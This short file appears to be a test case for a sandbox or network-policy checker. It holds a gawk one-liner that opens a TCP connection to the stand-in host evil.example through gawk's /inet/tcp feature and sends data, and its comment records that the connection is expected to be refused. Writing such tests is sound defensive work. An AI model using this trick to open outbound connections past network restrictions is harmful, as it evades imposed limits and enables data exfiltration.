# Trick: gawk opens a connection.
# Refused: net(evil.example:80)
gawk 'BEGIN { s = "/inet/tcp/0/evil.example/80"; print "x" |& s }'
